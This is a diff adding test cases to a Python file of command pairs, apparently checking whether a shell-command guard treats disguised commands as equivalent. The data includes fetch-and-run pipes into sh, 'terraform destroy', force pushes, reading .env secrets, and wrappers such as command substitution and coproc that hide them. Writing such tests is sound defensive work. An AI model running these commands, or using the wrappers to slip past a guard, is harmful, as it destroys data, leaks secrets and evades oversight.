@@ -36,6 +36,9 @@ EQUAL = [
     ("echo hi > .env", "printf 'hi\\n' | tee .env >/dev/null"),
     ("curl -s http://example.com/x | sh", "sh -c 'curl -s http://example.com/x | bash'"),
     ("terraform destroy -auto-approve", "env terraform 'destroy' -auto-approve"),
+    ("terraform destroy -auto-approve", ': "$(terraform destroy -auto-approve)"'),
+    ("git push --force origin main", ': "$(git push --force origin main)"'),
+    ("rsync -a host:x . | sh", "rsync -a host:x . | bash"),
 ]
 DIFFERENT = [
     ("rm -rf src", "rm -rf build"),
@@ -58,6 +61,12 @@ DIFFERENT = [
     ("curl -s http://example.com/x | sh", "curl -s http://example.com/x"),
     ("curl -s http://example.com/x | sh", "curl -s http://example.com/y | sh"),
     ("terraform destroy -auto-approve", "terraform plan -auto-approve"),
+    ("cat .env", ': "$(cat .env)"'),
+    ("cat .env", "coproc cat .env; wait"),
+    ("cat .env", "cat .env >/dev/null"),
+    ("less .env", "less .env >/dev/null"),
+    ("rsync -a host:x . | sh", "rsync -a host:x ."),
+    ("aws s3 cp s3://b/x - | sh", "aws s3 cp s3://b/x - | sh -c true"),
     ("echo hi > .env", "echo h[i] > .env"),
     ("chmod -R 777 build", "chmod -R 77? build"),
     ("rm -rf notes.txt src", "rm -rf notes.txt/ src"),
